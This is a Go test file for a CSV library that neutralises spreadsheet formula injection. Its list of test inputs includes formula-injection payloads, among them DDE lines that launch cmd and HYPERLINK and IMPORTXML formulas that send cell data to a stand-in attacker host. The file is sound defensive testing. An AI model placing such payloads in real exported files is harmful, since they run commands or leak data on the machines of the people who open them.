package csvsafe_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"slices"
	"strings"
	"testing"

	"github.com/WebsyteAI/websyte/app/csvsafe"
)

// tricks begin a formula in some spreadsheet, or try to end the cell that they are in.
var tricks = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
	`=HYPERLINK("https://evil.example/?x="&A1,"Click")`, "=IMPORTXML(CONCAT(\"https://evil.example/?v=\", A1), \"//a\")", `=DDE("cmd";"/C calc";"x")`,
	"\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "   =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1", "\x00=1+1", "\x0b=1+1",
	`"=1+1"`, `""=1+1`, `"",=1+1`, "'=1+1", `' =1+1`, "‘=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "|calc", "%0A=1+1", "-", "=", "\t", "\r\n",
}

// harmless stay as they are.
var harmless = []string{"", "1", "Is 1+1=2?", "it's", "'quoted'", "a@b.example", "100 %", `say "hi"`, "a,b;c", "line\nbreak", "ß ü 漢 🙂 مرحبا", "  spaces  ", `\"`, "?=1"}

func TestNoCellIsAFormula(t *testing.T) {
	t.Parallel()
	for _, trick := range tricks {
		for _, cell := range []string{trick, trick + `","` + trick, trick + ";=1"} {
			raw := write(t, []string{"a", cell, "b"})
			rows := parse(t, raw, ',')
			if len(rows) != 1 || len(rows[0]) != 3 || !strings.HasPrefix(rows[0][1], "'") {
				t.Errorf("%q became %q", cell, rows)
			}
		}
	}
	for _, cell := range harmless {
		if got := csvsafe.Guard(cell); got != cell {
			t.Errorf("%q became %q", cell, got)
		}
	}
}

// Excel of a country with a decimal comma parts cells at semicolons, and takes quotes
// within what it then has for a cell as they are: no piece may begin a formula.
func TestNoPieceIsAFormula(t *testing.T) {
	t.Parallel()
	raw := write(t, []string{"a", "question;=1+1;", "x\n=2;=3", `y";=4`, "tab\t=5", "many\n\n=6", "z; =7", "u\r\n@8"})
	for _, cell := range strings.FieldsFunc(raw, func(r rune) bool { return strings.ContainsRune(";\t\r\n", r) }) {
		if strings.ContainsAny(strings.Trim(cell, ` "`)[:1], "=+-@") {
			t.Errorf("%q is a cell of %q", cell, raw)
		}
	}
	if list := "Bring:\n\n- a pen\n- paper"; csvsafe.Guard(list) != list {
		t.Errorf("a list became %q", csvsafe.Guard(list))
	}
}

func TestWhatIsWrittenComesBack(t *testing.T) {
	t.Parallel()
	for _, cell := range slices.Concat(tricks, harmless, []string{"''=1", "'''", "'''=1", "'a"}) {
		want := []string{cell, "x", cell}
		got, err := csvsafe.NewReader(strings.NewReader(write(t, want))).Read()
		if err != nil || !slices.Equal(got, []string{unix(cell), "x", unix(cell)}) {
			t.Errorf("%q came back as %q, %v", want, got, err)
		}
	}
}

func TestForm(t *testing.T) {
	t.Parallel()
	if got := write(t, []string{"a", `b "c"`}, []string{"", "ü"}); got != "\ufeff\"a\",\"b \"\"c\"\"\"\r\n\"\",\"ü\"\r\n" {
		t.Errorf("%q", got)
	}
	for _, file := range []string{"a,b\r\n1,2\r\n", "\ufeffa,b\n1,2", "a;b\r\n1;2\r\n", `"a";"b"` + "\n1;2\n"} {
		r := csvsafe.NewReader(strings.NewReader(file))
		first, err := r.Read()
		second, err2 := r.Read()
		_, end := r.Read()
		if err := errors.Join(err, err2); err != nil || !slices.Equal(first, []string{"a", "b"}) || !slices.Equal(second, []string{"1", "2"}) || end != io.EOF {
			t.Errorf("%q: %q, %q, %v, %v", file, first, second, err, end)
		}
	}
}

type broken struct{}

func (broken) Write([]byte) (int, error) { return 0, io.ErrClosedPipe }

func TestTheFirstErrorStays(t *testing.T) {
	t.Parallel()
	w := csvsafe.NewWriter(broken{})
	for range 10_000 {
		w.Write("cell")
	}
	if err := w.Flush(); !errors.Is(err, io.ErrClosedPipe) {
		t.Error(err)
	}
}

// unix has the line breaks that encoding/csv gives.
func unix(s string) string { return strings.ReplaceAll(s, "\r\n", "\n") }

func write(t *testing.T, rows ...[]string) string {
	t.Helper()
	var b bytes.Buffer
	w := csvsafe.NewWriter(&b)
	for _, row := range rows {
		w.Write(row...)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// parse reads as a spreadsheet does that knows nothing of csvsafe.
func parse(t *testing.T, raw string, comma rune) [][]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(raw, "\ufeff")))
	r.Comma, r.LazyQuotes, r.FieldsPerRecord = comma, true, -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func FuzzRoundTrip(f *testing.F) {
	for _, cell := range slices.Concat(tricks, harmless) {
		f.Add(cell, "b")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		got, err := csvsafe.NewReader(strings.NewReader(write(t, []string{a, b}))).Read()
		if err != nil || !slices.Equal(got, []string{unix(a), unix(b)}) {
			t.Errorf("%q and %q came back as %q, %v", a, b, got, err)
		}
	})
}

func FuzzReader(f *testing.F) {
	f.Add("\ufeff\"a\",b\r\nc;d")
	f.Fuzz(func(_ *testing.T, file string) {
		r := csvsafe.NewReader(strings.NewReader(file))
		for range 100 {
			if _, err := r.Read(); err != nil {
				return
			}
		}
	})
}
